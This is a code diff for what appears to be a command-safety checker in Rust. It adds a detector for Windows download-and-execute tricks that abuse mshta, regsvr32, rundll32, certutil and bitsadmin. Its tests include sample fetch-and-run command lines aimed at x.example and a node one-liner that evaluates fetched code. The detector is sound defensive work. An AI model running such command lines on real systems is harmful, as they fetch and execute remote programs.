@@ -82,7 +82,7 @@ pub(super) fn preloads(command: &str) -> bool {
 }
 
 /// Whether something comes from a place that nobody vouches for.
-fn unguarded(part: &str) -> bool {
+pub(super) fn unguarded(part: &str) -> bool {
     let numeric = |host: &str| {
         let host = host.split([':', '/', '"', '\'']).next().unwrap_or("");
         !host.is_empty() && host.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
@@ -130,6 +130,21 @@ pub(super) fn fetched(command: &str) -> Option<&'static str> {
         }
     }
     None
+}
+
+/// What tools of Windows are used for that fetch programs and run them although they are made for something else.
+pub(super) fn windows(text: &str) -> Option<&'static str> {
+    let has = |part: &str| text.contains(part);
+    let address = has("http://") || has("https://");
+    let lends = has("mshta") && (address || has("javascript:") || has("vbscript:"))
+        || has("regsvr32") && has("/i:http")
+        || has("rundll32") && has("javascript:");
+    if lends {
+        return Some("fetches a program and runs it");
+    }
+    let saves = has("certutil") && has("-urlcache") || has("bitsadmin") && has("/transfer");
+    let starts = ["start ", ".exe", "&& ", "& "].iter().any(|way| has(way));
+    (saves && address && starts).then_some("fetches a program and runs it")
 }
 
 /// Whether an interpreter is given a program of one line that runs what it fetches.
@@ -221,6 +236,9 @@ mod tests {
                 .is_none()
         );
         assert!(fetched("curl http://x.example/data.zip -o data.zip && unzip data.zip").is_none());
+        assert!(windows("mshta http://x.example/a.hta").is_some());
+        assert!(windows("certutil -urlcache -f http://x.example/a.exe a.exe && a.exe").is_some());
+        assert!(windows("certutil -hashfile model.bin sha256 && echo https://x.example").is_none());
         assert!(one_liner("node -e \"require('https').get('https://x',r=>r.on('data',d=>eval(''+d)))\""));
         assert!(!one_liner("node -e \"require('fs').mkdirsync('dist')\""));
         assert!(is_shell("/bin/bash -i") && !is_shell("bash run.sh") && !is_shell(""));
